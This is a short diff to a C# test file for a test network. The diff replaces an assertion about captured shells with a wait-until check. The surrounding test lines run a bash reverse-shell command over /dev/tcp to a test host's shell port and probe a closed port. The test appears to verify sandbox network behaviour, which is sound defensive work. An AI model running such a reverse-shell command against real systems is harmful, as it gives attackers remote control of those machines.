@@ -42,7 +42,7 @@ public sealed class TestNetworkTests
 
             (code, _) = await Run(TestNetwork.Enter(client, "bash", "-c", $"bash -i >& /dev/tcp/{TestNetwork.HostAddress}/{TestNetwork.ShellPort} 0>&1"));
             Assert.Equal(0, code);
-            Assert.Single(network.Shells);
+            await Agent.AgentTestSupport.Until(() => !network.Shells.IsEmpty, "the test host to see the shell go");
 
             (code, output) = await Run(TestNetwork.Enter(client, "bash", "-c", $"exec 3<>/dev/tcp/{TestNetwork.HostAddress}/{TestNetwork.ClosedPort(1)}"));
             Assert.NotEqual(0, code);
